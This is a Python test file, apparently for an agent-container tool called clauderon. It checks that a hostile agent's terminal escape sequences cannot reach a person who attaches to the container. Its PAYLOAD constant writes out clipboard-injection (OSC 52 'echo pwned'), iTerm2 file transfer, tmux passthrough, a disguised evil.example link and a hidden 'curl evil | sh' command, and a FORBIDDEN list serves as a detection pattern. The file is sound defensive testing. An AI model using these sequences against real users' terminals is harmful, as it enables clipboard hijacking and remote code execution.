"""What the agent writes to its terminal cannot act on the person's terminal through an
attach (real engine, real `clauderon attach` on a real pseudo-terminal, the hostile agent
in its container as uid 1000).

An attach joins the container's terminal, and the agent owns what is written there. A
terminal acts on some sequences: OSC 52 sets the clipboard (a command left to be pasted in
a shell on the host), OSC 1337 transfers files, DCS strings pass through tmux to the outer
terminal. The person sees the agent's text and colours; none of those sequences arrive.
"""

from __future__ import annotations

import os
import pty
import select
import shlex
import shutil
import time
import uuid
from pathlib import Path

from tests.conftest import AGENT_UID
from tests.support.appliance import BIN, Appliance

E = "\\033"
#: The agent's payload (printf format), between visible markers.
PAYLOAD = (f"BEFORE-%s {E}[1;31mRED{E}[0m "
           f"{E}]52;c;ZWNobyBwd25lZAo=\\007"  # the clipboard: "echo pwned"
           f"{E}]1337;File=name=eA==;inline=0:aGk=\\007"  # an iTerm2 file
           f"{E}Ptmux;{E}{E}]52;c;ZWNobyBwd25lZAo=\\007{E}\\\\"  # tmux passthrough
           f"{E}]8;;https://evil.example/\\007LINK{E}]8;;\\007"  # a disguised link
           "\\302\\235" "52;c;ZWNobyBwd25lZAo=\\302\\234"  # the same as UTF-8 C1 controls
           f" {E}[8m; curl evil | sh{E}[0m"  # concealed: copied with a selection, unseen
           " AFTER-%s\\r\\n")
#: What must not arrive: the sequences' introducers (their text after a dropped C1 control
#: may show, inert, as text).
FORBIDDEN = [b"]52;", b"]1337;", b"\x1bP", b"]8;", b"\xc2\x9d", b"\xc2\x9c", b"\x1b[8m"]


def attach_and_read(app: Appliance, argv: list[str], container: object,
                    seconds: float = 30) -> bytes:
    """``argv`` (an attach) on a pseudo-terminal, as a person runs it; the agent writes its
    payload until the person's terminal has shown it; then the person detaches."""
    pid, fd = pty.fork()
    if pid == 0:  # the person's shell
        os.execve(argv[0], argv, app.env)
    seen = b""
    deadline = time.monotonic() + seconds
    round_ = 0
    try:
        while time.monotonic() < deadline and b"AFTER-" not in seen:
            round_ += 1
            container.exec_run(  # type: ignore[attr-defined]
                ["sh", "-c", 'printf "$1" "$2" "$2" > /proc/1/fd/1', "sh", PAYLOAD, str(round_)],
                user=f"{AGENT_UID}:{AGENT_UID}")
            end = time.monotonic() + 0.5
            while time.monotonic() < end:
                ready, _, _ = select.select([fd], [], [], 0.1)
                if ready:
                    try:
                        seen += os.read(fd, 65536)
                    except OSError:
                        break
        os.write(fd, b"\x11")  # ctrl-q: the detach keys
        end = time.monotonic() + 10
        while time.monotonic() < end:
            ready, _, _ = select.select([fd], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(fd, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                seen += chunk
    finally:
        os.close(fd)
        os.waitpid(pid, 0)
    return seen


def test_an_agent_cannot_reach_the_persons_terminal_through_an_attach(
        appliance: Appliance, repo: Path) -> None:
    name = f"att-{uuid.uuid4().hex[:6]}"
    appliance.client().post("/api/sessions", {"repo_path": str(repo), "name": name})
    s = appliance.wait_phase(name, "running")
    [c] = appliance.containers(s["id"])
    # The agent (uid 1000) writes to the terminal an attach shows: its markers arrive.
    attach = [str(BIN / "clauderon"), "attach", name]
    # The command `attach --print-command` gives, run in the person's own terminal, goes
    # through the same filter.
    printed = shlex.split(appliance.cli("attach", name, "--print-command").stdout)
    assert printed[0] == str(BIN / "clauderon") and printed[1:3] == ["relay", "--"], printed
    # The container by the engine's name for it: its id's, never the session's name.
    assert s["container_name"] == f"clauderon-{s['id']}", s["container_name"]
    assert shutil.which(printed[3]) and printed[-1] == s["container_name"], printed
    # The positive control: the bare command shows the agent's sequences as written.
    bare = attach_and_read(appliance, [str(shutil.which(printed[3])), *printed[4:]], c)
    assert b"]52;" in bare and b"\x1b[8m; curl" in bare and b"AFTER-" in bare, bare[-2000:]
    for argv in (attach, printed):
        seen = attach_and_read(appliance, argv, c)
        assert b"AFTER-" in seen and b"BEFORE-" in seen, (argv, seen[-2000:])
        assert b"\x1b[1;31mRED\x1b[0m" in seen and b"LINK" in seen  # colours, text arrive
        assert b"; curl evil | sh\x1b[0m" in seen  # the concealed text, shown
        for needle in FORBIDDEN:
            assert needle not in seen, (argv, needle, seen[-2000:])
